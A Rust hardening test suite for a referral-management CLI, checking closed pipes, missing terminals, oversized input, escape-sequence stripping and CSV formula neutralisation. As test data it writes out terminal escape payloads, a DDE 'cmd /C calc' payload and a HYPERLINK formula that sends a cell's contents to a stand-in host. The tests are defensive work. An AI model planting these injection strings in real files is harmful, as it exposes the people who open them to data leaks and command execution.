//! No panic, no hang, nothing leaked: a closed pipe, no terminal, endless or huge
//! input, pathological text, escape sequences from feeds and formulas in CSV.
//!
//! Library-level bounds are checked by counting what the test thread allocates
//! (see `counting`), not by timing: the work a function does with a large input
//! must grow with the input, not with its square.

mod counting;

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Output, Stdio};
use std::time::{Duration, Instant};

use rusqlite::Connection;

const BIN: &str = env!("CARGO_BIN_EXE_linkwork");

fn cmd(db: &Path, args: &[&str]) -> Command {
    let mut c = Command::new(BIN);
    c.arg("--db").arg(db).args(args).env("LINKWORK_WORKER", "Hardening Tester").env_remove("LINKWORK_DB");
    c
}

fn cli(db: &Path, args: &[&str]) -> Output {
    cmd(db, args).output().unwrap()
}

fn ok(db: &Path, args: &[&str]) -> String {
    let o = cli(db, args);
    assert!(o.status.success(), "{args:?}: {}", text(&o.stderr));
    text(&o.stdout)
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// Run to the end, or kill it and fail after `secs` (a hang is a failure, not a
/// measurement: the limit is far above any normal run).
fn run_with_deadline(mut c: Command, secs: u64, stderr_file: &Path) -> ExitStatus {
    c.stderr(std::fs::File::create(stderr_file).unwrap());
    let mut child = c.spawn().unwrap();
    let end = Instant::now() + Duration::from_secs(secs);
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return status;
        }
        if Instant::now() > end {
            let _ = child.kill();
            let _ = child.wait();
            panic!("still running after {secs} s: {}", std::fs::read_to_string(stderr_file).unwrap_or_default());
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn demo(dir: &Path) -> PathBuf {
    let db = dir.join("live.db");
    ok(&db, &["demo", "--clients", "200", "--seed", "4"]);
    db
}

/// A write end of a pipe whose read end is already closed: the first write fails
/// with EPIPE, as when `head -1` has read its line and gone.
fn closed_pipe() -> std::io::PipeWriter {
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    writer
}

fn no_control_bytes(what: &str, s: &str) {
    for c in s.chars() {
        assert!(!c.is_control() || c == '\n' || c == '\t', "{what}: control character {c:?} printed in {s:?}");
    }
}

// ---------------------------------------------------------------------------
// 1. A closed pipe ends a command quietly.

#[test]
fn a_closed_pipe_ends_every_printing_command_quietly() {
    let dir = tempfile::tempdir().unwrap();
    let db = demo(dir.path());
    let commands: &[&[&str]] = &[
        &["referral", "list"],
        &["referral", "list", "--json"],
        &["audit"],
        &["audit", "--json"],
        &["services", "list"],
        &["services", "list", "--json"],
        &["services", "export"],
        &["prescriptions"],
        &["prescriptions", "--json"],
        &["practice", "list"],
        &["unmet", "list"],
        &["keys", "list"],
        &["keys", "public"],
        &["summary"],
        &["summary", "--format", "csv"],
        &["check"],
        &["init"],
    ];
    for args in commands {
        let o = cmd(&db, args).stdout(closed_pipe()).stderr(Stdio::piped()).output().unwrap();
        let err = text(&o.stderr);
        assert!(!err.contains("panicked"), "{args:?} panicked: {err}");
        assert!(err.is_empty(), "{args:?} should end quietly, said: {err}");
        assert_eq!(o.status.code(), Some(141), "{args:?}: the status of a tool whose reader went away");
    }
    // Standard error closed too (`2>&1 | head -1`): still no panic.
    let bad = dir.path().join("bad.csv");
    std::fs::write(&bad, "nhs_number,name,date_of_birth,reason\n1,,x,y\n2,,x,y\n").unwrap();
    let o = cmd(&db, &["referral", "import", bad.to_str().unwrap()])
        .stdout(closed_pipe())
        .stderr(closed_pipe())
        .output()
        .unwrap();
    assert_ne!(o.status.code(), Some(101), "a panic's status");
    assert!(o.status.code().is_some(), "ended by a signal: {:?}", o.status);
}

// ---------------------------------------------------------------------------
// 2. No terminal: a clear error, not a panic in the terminal set-up.

#[test]
fn the_terminal_ui_without_a_terminal_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("ui.db");
    // `setsid` leaves no controlling terminal at all, as under cron or a service.
    let mut c = if Path::new("/usr/bin/setsid").exists() || Path::new("/bin/setsid").exists() {
        let mut c = Command::new("setsid");
        c.arg(BIN);
        c
    } else {
        Command::new(BIN)
    };
    c.arg("--db").arg(&db).env("LINKWORK_WORKER", "Hardening Tester").stdin(Stdio::null()).stdout(Stdio::null());
    let err_file = dir.path().join("stderr");
    let status = run_with_deadline(c, 60, &err_file);
    let err = std::fs::read_to_string(&err_file).unwrap();
    assert!(!err.contains("panicked"), "{err}");
    assert!(!status.success(), "{err}");
    assert_eq!(status.code(), Some(1), "{err}");
    assert!(err.contains("needs a terminal"), "{err}");
}

// ---------------------------------------------------------------------------
// 3. Endless or huge input files are refused with a clear message.

fn limited_status(db: &Path, args: &[&str], dir: &Path) -> (ExitStatus, String) {
    // The memory limit turns growth without bound into a quick failure instead
    // of a machine swapping: a bounded import needs a fraction of it.
    let mut c = Command::new("sh");
    c.arg("-c")
        .arg("ulimit -v 2000000 && exec \"$0\" \"$@\"")
        .arg(BIN)
        .args(["--db", db.to_str().unwrap()])
        .args(args)
        .env("LINKWORK_WORKER", "Hardening Tester")
        .stdout(Stdio::null());
    let err_file = dir.join("import-stderr");
    let status = run_with_deadline(c, 120, &err_file);
    (status, std::fs::read_to_string(&err_file).unwrap())
}

#[test]
fn referral_import_of_dev_zero_ends_with_a_clear_message() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("z.db");
    ok(&db, &["init"]);
    let (status, err) = limited_status(&db, &["referral", "import", "/dev/zero"], dir.path());
    assert_eq!(status.code(), Some(1), "{err}");
    assert!(err.contains("line 1 is longer than"), "{err}");
    assert!(err.contains("nothing was imported"), "{err}");
    assert!(!err.contains("panicked") && !err.contains("memory allocation"), "{err}");
    // The other files read from outside: a feed, and a signed file to verify.
    let (status, err) = limited_status(&db, &["services", "import", "/dev/zero"], dir.path());
    assert_eq!(status.code(), Some(1), "{err}");
    assert!(err.contains("larger than 32 MiB"), "{err}");
    let (status, err) = limited_status(&db, &["verify", "/dev/zero"], dir.path());
    assert_eq!(status.code(), Some(1), "{err}");
    assert!(err.contains("larger than 16 MiB"), "{err}");
}

#[test]
fn referral_import_bounds_lines_and_files() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("b.db");
    ok(&db, &["init"]);
    // A line of 3 MB, after a good header and row.
    let long = dir.path().join("long.csv");
    let mut f = std::fs::File::create(&long).unwrap();
    writeln!(f, "nhs_number,name,date_of_birth,reason").unwrap();
    writeln!(f, "9997654323,Long Line,1950-01-01,money").unwrap();
    f.write_all(&vec![b'x'; 3 << 20]).unwrap();
    drop(f);
    let o = cli(&db, &["referral", "import", long.to_str().unwrap()]);
    let err = text(&o.stderr);
    assert!(!o.status.success());
    assert!(err.contains("line 3 is longer than"), "{err}");
    assert!(err.contains("nothing was imported"), "{err}");
    let n: i64 = Connection::open(&db).unwrap().query_row("SELECT count(*) FROM referral", [], |r| r.get(0)).unwrap();
    assert_eq!(n, 0, "nothing of the file is kept");

    // A file beyond the size limit is refused before it is read (a sparse file).
    let big = dir.path().join("big.csv");
    std::fs::File::create(&big).unwrap().set_len(200 << 20).unwrap();
    let o = cli(&db, &["referral", "import", big.to_str().unwrap()]);
    let err = text(&o.stderr);
    assert!(!o.status.success());
    assert!(err.contains("larger than 64 MiB"), "{err}");

    // A folder is not a file.
    let o = cli(&db, &["referral", "import", dir.path().to_str().unwrap()]);
    let err = text(&o.stderr);
    assert!(!o.status.success() && err.contains("is a folder"), "{err}");
}

// ---------------------------------------------------------------------------
// 4. Text wrapping is linear; feed fields are capped.

#[test]
fn wrapping_a_huge_word_costs_in_proportion_to_it() {
    use linkwork::ui::text::{width, wrap};
    let word = "x".repeat(200_000);
    let (lines, allocated) = counting::measure(|| wrap(&word, 40));
    assert_eq!(lines.len(), 5000);
    assert!(lines.iter().all(|l| width(l) == 40));
    // The lines themselves are 200 KB; copying the rest of the word at each cut
    // (the quadratic way) allocated 500 MB.
    assert!(allocated < 2_000_000, "{allocated} bytes allocated to wrap 200,000 characters");

    // Mixed: words and a long one keep their order and nothing is lost.
    let s = format!("a {} b", "é".repeat(95));
    let lines = wrap(&s, 40);
    assert_eq!(lines.concat().replace(' ', ""), s.replace(' ', ""));
    assert!(lines.iter().all(|l| width(l) <= 40), "{lines:?}");
}

fn feed(services: serde_json::Value) -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({ "contents": services })).unwrap()
}

#[test]
fn open_referral_fields_are_capped_with_a_reason() {
    use linkwork::formats::oruk::parse_json;
    let bytes = feed(serde_json::json!([
        { "id": "long-name", "name": "N".repeat(300_000) },
        { "id": "long-description", "name": "Fine", "description": "word ".repeat(60_000) },
        { "id": "ok", "name": "Walking group", "description": "Tuesdays" },
    ]));
    let parsed = parse_json(&bytes).unwrap();
    assert_eq!(parsed.services.iter().map(|s| s.id.as_str()).collect::<Vec<_>>(), ["ok"]);
    let why = |id: &str| parsed.skipped.iter().find(|(at, _)| at == id).map(|(_, w)| w.clone()).unwrap();
    assert!(why("long-name").contains("name is 300000 characters"), "{}", why("long-name"));
    assert!(why("long-description").contains("description is"), "{}", why("long-description"));
}

// ---------------------------------------------------------------------------
// 5. Open Referral import: nesting and size bounded.

#[test]
fn deeply_nested_html_is_skipped_with_a_reason_and_costs_little() {
    use linkwork::formats::oruk::parse_json;
    let deep = format!("{}text{}", "<div>".repeat(20_000), "</div>".repeat(20_000));
    let bytes = feed(serde_json::json!([
        { "id": "deep", "name": "Deep", "description": deep },
        { "id": "fine", "name": "Fine", "description": "<div><p>Tea <b>and</b> chat</p></div>" },
    ]));
    let (parsed, allocated) = counting::measure(|| parse_json(&bytes).unwrap());
    assert_eq!(parsed.services.len(), 1);
    assert_eq!(parsed.services[0].description.as_deref(), Some("Tea and chat"));
    let (at, why) = &parsed.skipped[0];
    assert_eq!(at, "deep");
    assert!(why.contains("nested more than"), "{why}");
    assert!(allocated < 100 * bytes.len(), "{allocated} bytes allocated for a {} byte feed", bytes.len());

    // An organisation's description is cleaned without the cost too.
    let org_feed = serde_json::to_vec(&serde_json::json!({
        "name": "Org", "description": format!("{}x{}", "<span>".repeat(20_000), "</span>".repeat(20_000)),
        "services": [{ "id": "s1", "name": "Service" }]
    }))
    .unwrap();
    let (parsed, allocated) = counting::measure(|| parse_json(&org_feed).unwrap());
    assert_eq!(parsed.services.len(), 1);
    assert!(allocated < 100 * org_feed.len(), "{allocated} bytes allocated for a {} byte feed", org_feed.len());
}

#[test]
fn a_feed_beyond_the_size_limit_is_refused_before_it_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("f.db");
    ok(&db, &["init"]);
    let big = dir.path().join("big.json");
    std::fs::File::create(&big).unwrap().set_len(200 << 20).unwrap();
    let o = cli(&db, &["services", "import", big.to_str().unwrap()]);
    let err = text(&o.stderr);
    assert!(!o.status.success());
    assert!(err.contains("larger than 32 MiB"), "{err}");
    let big_csv = dir.path().join("services.csv");
    std::fs::File::create(&big_csv).unwrap().set_len(200 << 20).unwrap();
    let o = cli(&db, &["services", "import", big_csv.to_str().unwrap()]);
    assert!(text(&o.stderr).contains("larger than 32 MiB"), "{}", text(&o.stderr));
}

// ---------------------------------------------------------------------------
// 6. Escape sequences never reach the terminal; control characters are refused
// on input.

const EVIL: &str = "Evil\u{1b}[2J\u{1b}]0;pwned\u{7} Club\u{9b}31m";

/// A database with one referral and a service whose name carries escape
/// sequences (as an older version, or another program, could have stored), and
/// a prescription to it.
fn escaped_db(dir: &Path) -> (PathBuf, String) {
    let db = dir.join("esc.db");
    ok(&db, &["init"]);
    let feed_file = dir.join("feed\u{1b}[2J.json");
    std::fs::write(&feed_file, feed(serde_json::json!([{ "id": "e1", "name": "Plain Club" }]))).unwrap();
    ok(&db, &["services", "import", feed_file.to_str().unwrap()]);
    Connection::open(&db).unwrap().execute("UPDATE service SET name = ?1", [EVIL]).unwrap();
    ok(
        &db,
        &[
            "referral",
            "add",
            "--nhs",
            "9997654323",
            "--name",
            "Ann Example",
            "--dob",
            "1950-01-01",
            "--reason",
            "money",
        ],
    );
    let list: serde_json::Value = serde_json::from_str(&ok(&db, &["referral", "list", "--json"])).unwrap();
    let client = list[0]["client_id"].to_string();
    let services: serde_json::Value = serde_json::from_str(&ok(&db, &["services", "list", "--json"])).unwrap();
    let service = services[0]["id"].to_string();
    ok(&db, &["prescribe", "--client", &client, "--service", &service, "--consent", "verbal"]);
    (db, client)
}

#[test]
fn escape_sequences_are_stripped_from_everything_printed() {
    let dir = tempfile::tempdir().unwrap();
    let (db, _) = escaped_db(dir.path());
    for args in [&["services", "list"][..], &["prescriptions"], &["audit"], &["summary"]] {
        let o = cli(&db, args);
        let out = text(&o.stdout);
        no_control_bytes(&format!("{args:?}"), &out);
        no_control_bytes(&format!("{args:?} stderr"), &text(&o.stderr));
        if args[0] != "summary" {
            assert!(out.contains("Evil[2J]0;pwned Club"), "{args:?}: the text is kept, its controls gone: {out}");
        }
    }
    // The audit names the feed's file, whose name carried an escape too.
    assert!(ok(&db, &["audit"]).contains("feed[2J.json"));
    // An error message repeats what was typed: stripped too.
    let o = cli(&db, &["referral", "decide", "1", "\u{1b}[2Jnonsense"]);
    assert!(!o.status.success());
    no_control_bytes("error", &text(&o.stderr));
}

#[test]
fn feeds_lose_their_control_characters_on_import() {
    let parsed = linkwork::formats::oruk::parse_json(&feed(serde_json::json!([
        { "id": "e1", "name": EVIL, "description": "<p>Tea\u{1b}[31m red</p>", "fees": "free\u{7}" }
    ])))
    .unwrap();
    let s = &parsed.services[0];
    assert_eq!(s.name, "Evil[2J]0;pwned Club31m");
    assert_eq!(s.description.as_deref(), Some("Tea[31m red"));
    assert_eq!(s.fees.as_deref(), Some("free"));
}

#[test]
fn referral_csv_with_control_characters_is_refused_by_field() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    ok(&db, &["init"]);
    let file = dir.path().join("in.csv");
    std::fs::write(
        &file,
        "nhs_number,name,date_of_birth,reason,referrer_name,notes\n\
         9997654323,Ann One,1950-01-01,money,Dr \u{1b}[2JWho,fine\n\
         9992468130,Bea Two,1950-01-01,money,Dr Who,bad \u{1b}]0;title\u{7} notes\n\
         9449305552,Cat Three,1950-01-01,money,Dr Who,\"two\nlines\tand a tab\"\n",
    )
    .unwrap();
    let o = cli(&db, &["referral", "import", file.to_str().unwrap()]);
    let err = text(&o.stderr);
    assert!(!o.status.success());
    assert!(err.contains("line 2: referrer: contains control characters"), "{err}");
    assert!(err.contains("line 3: notes: contains control characters"), "{err}");
    assert!(text(&o.stdout).contains("imported 1 referral, rejected 2"), "{}", text(&o.stdout));

    // `referral add` goes through the same rules.
    let o = cli(
        &db,
        &["referral", "add", "--nhs", "9997654323", "--name", "Ann", "--dob", "1950-01-01", "--reason", "money"]
            .into_iter()
            .chain(["--notes", "a\u{1b}[2Jb"])
            .collect::<Vec<_>>(),
    );
    assert!(!o.status.success());
    assert!(text(&o.stderr).contains("notes: contains control characters"), "{}", text(&o.stderr));
}

// ---------------------------------------------------------------------------
// 7. Every CSV cell is safe to open in a spreadsheet.

#[test]
fn summary_csv_neutralises_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("s.db");
    ok(&db, &["init"]);
    let hyperlink = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
    let feed_file = dir.path().join("feed.json");
    std::fs::write(
        &feed_file,
        feed(serde_json::json!([{ "id": "f1", "name": hyperlink, "categories": ["+cmd|' /C calc'!A0"] }])),
    )
    .unwrap();
    ok(&db, &["services", "import", feed_file.to_str().unwrap()]);
    ok(&db, &["practice", "set", "--name", "@SUM(1+1)*cmd", "--list-size", "5000"]);
    ok(&db, &["practice", "set", "--name=-2+3", "--list-size", "4000"]);
    for (nhs, practice) in [("9997654323", "@SUM(1+1)*cmd"), ("9992468130", "-2+3")] {
        ok(
            &db,
            &["referral", "add", "--nhs", nhs, "--name", "Ann Example", "--dob", "1950-01-01", "--reason", "money"]
                .into_iter()
                .chain([format!("--practice={practice}").as_str()])
                .collect::<Vec<_>>(),
        );
    }
    let list: serde_json::Value = serde_json::from_str(&ok(&db, &["referral", "list", "--json"])).unwrap();
    let client = list[0]["client_id"].to_string();
    let services: serde_json::Value = serde_json::from_str(&ok(&db, &["services", "list", "--json"])).unwrap();
    let service = services[0]["id"].to_string();
    let id = ok(&db, &["prescribe", "--client", &client, "--service", &service, "--consent", "verbal"]);
    let out = dir.path().join("referral.json");
    ok(&db, &["export", "referral", id.trim(), "--out", out.to_str().unwrap()]);

    let today = chrono::Local::now().date_naive().to_string();
    let csv_text = ok(&db, &["summary", "--from", &today, "--to", &today, "--format", "csv"]);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv_text.as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        cells.extend(record.unwrap().iter().map(str::to_owned));
    }
    for cell in &cells {
        let first = cell.chars().next();
        let number = cell.parse::<f64>().is_ok() && cell.chars().all(|c| c.is_ascii_digit() || c == '.' || c == '-');
        assert!(
            number || !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
            "a spreadsheet would run {cell:?}"
        );
    }
    for expected in [format!("'{hyperlink}"), "'@SUM(1+1)*cmd".to_owned(), "'-2+3".to_owned()] {
        assert!(cells.contains(&expected), "{expected} missing from {csv_text}");
    }
    // The same file written with --out.
    let file = dir.path().join("summary.csv");
    ok(&db, &["summary", "--from", &today, "--to", &today, "--out", file.to_str().unwrap()]);
    let written = std::fs::read_to_string(&file).unwrap();
    assert!(written.contains("'@SUM(1+1)*cmd") && !written.contains(",@SUM"), "{written}");
}

/// Every free-text field refuses control characters on input, not only the
/// referral's: a contact's note, a decline reason, a prescription's wants, an
/// unmet need, a service's notes, a practice's name.
#[test]
fn every_free_text_field_refuses_control_characters() {
    use linkwork::domain::referral::Status;
    use linkwork::domain::triage::{Action, Standing, plan};
    let esc = "Tea \u{1b}]0;owned\u{7} time";
    let today = chrono::NaiveDate::from_ymd_opt(2026, 11, 25).unwrap();
    let standing = Standing { status: Status::New, failed_attempts: 0, last_reached: None };
    let e = plan(standing, &Action::Decline(esc.into()), 3, today).unwrap_err();
    assert!(e.contains("control character"), "{e}");
    let dir = tempfile::tempdir().unwrap();
    let mut store = linkwork::storage::Store::open(&dir.path().join("c.db"), Some("t")).unwrap();
    let change =
        linkwork::storage::practices::PracticeChange { name: esc.into(), ods_code: None, list_size: None, pcn: None };
    let e = linkwork::storage::practices::set(&mut store, &change).unwrap_err();
    assert!(format!("{e:#}").contains("control character"), "{e:#}");
}
